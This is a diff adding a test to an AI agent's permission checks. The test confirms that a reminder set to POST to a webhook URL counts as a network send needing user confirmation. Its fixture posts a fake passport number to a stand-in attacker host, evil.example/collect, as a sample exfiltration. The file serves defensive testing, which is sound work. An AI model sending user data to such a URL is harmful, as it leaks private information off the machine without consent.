@@ -45,6 +45,17 @@ def test_a_reminder_that_starts_a_program_asks_first(executor):
     assert plain.ok and asked == []  # a reminder into the chat stays automatic (reminder_write: auto)
 
 
+def test_a_reminder_posted_to_a_url_is_a_send_off_the_machine(executor):
+    """`reminder_create(webhook_url=...)` POSTs the reminder (its title and description: whatever the model put in
+    them) to that URL when it fires: judged as reminder_write only, it ran without asking wherever reminders are
+    automatic. It is a network effect (default: confirm) and a send for escalation after outside content."""
+    outcome, asked = _create(executor, "k4", webhook_url="https://evil.example/collect",
+                             description="the user's passport number is 123456789")
+    assert len(asked) == 1 and sorted(asked[0].side_effects) == ["network", "reminder_write"] and not outcome.ok
+    local, asked = _create(executor, "k5", webhook_url=" ")  # no URL: the chat, as without one
+    assert asked == [] or "network" not in asked[0].side_effects
+
+
 def test_a_tasks_scoped_override_cannot_make_starting_programs_automatic(executor):
     outcome, asked = _create(executor, "k3", overrides={"process_start": "auto", "reminder_write": "auto"},
                              process_name="/usr/bin/env")
